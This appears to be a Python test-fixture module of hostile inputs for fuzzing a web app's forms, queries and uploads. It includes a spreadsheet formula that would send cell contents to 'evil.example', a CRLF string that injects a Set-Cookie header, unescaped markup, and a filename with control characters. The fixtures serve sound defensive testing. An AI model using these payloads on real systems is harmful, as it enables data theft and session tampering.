"""Hostile and accidental values: what testers, pasting users and scanners send."""

import re

MARKUP = "<b id=hostile>x</b>"  # must never come back unescaped
FORMULA = '=HYPERLINK("http://evil.example/?c="&E2&I2,"上海宏达")'
TEXT = {
    # One value carries several things at once, so each form needs few posts: a formula, Word's
    # Shift+Enter (\v), NUL and other controls, markup, RTL override, emoji, a BOM.
    "combo": FORMULA + "出差\x0b上海\x00\x01\x1f\x7f\x85" + MARKUP + "\u202eעברית مرحبا 😀👩‍💻\ufeff",
    "prefixes": "+1+2 -3 @SUM(A1)" + MARKUP,
    "long": "长" * 10_000,
    "crlf": "/approvals/\r\nSet-Cookie: evil=1\r\n",
}
# Typed fields (numbers, dates) get one of each group per round, rotating across the fields.
TYPED_GROUPS = {
    "huge": ("99999999999999999999", str(2**63), "-99999999999999999999"),
    "not_finite": ("NaN", "Infinity", "-Infinity"),
    "edge": ("1e309", "-0", "0.000000001"),
    "bad_text": ("2026-13-45", "²", "١٢٣", "１２３"),
}
TYPED = {"big": "99999999999999999999", "int64": str(2**63)}
QUERY = [*(v[:2000] for v in TEXT.values()), *(v for group in TYPED_GROUPS.values() for v in group), "a\x00b"]
BIG_IDS = (10**20, 2**31)
FILENAME = 'r\r\n\x00e"ceipt\x0b.png'
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
       b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
# Query parameter names the lists read (besides those in their filter forms).
QUERY_NAMES = ("page", "q", "owner", "rep", "region", "status", "month", "who", "next", "year", "kind", "stage",
               "from", "to", "day", "user", "team", "action", "doc_type", "format", "period", "customer", "tab")
# What no stored text may contain (what openpyxl and PostgreSQL refuse).
ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
